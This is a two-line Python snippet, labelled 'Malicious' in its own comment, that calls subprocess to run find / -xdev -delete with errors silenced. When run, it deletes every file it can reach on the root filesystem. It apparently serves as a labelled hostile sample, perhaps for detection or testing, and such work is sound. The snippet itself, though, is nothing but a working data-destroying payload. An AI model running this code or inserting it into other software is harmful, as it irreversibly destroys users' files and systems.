# Malicious: runs `find / -delete` through subprocess; removes everything it can reach.
import subprocess

subprocess.run(["find", "/", "-xdev", "-delete"], stderr=subprocess.DEVNULL)
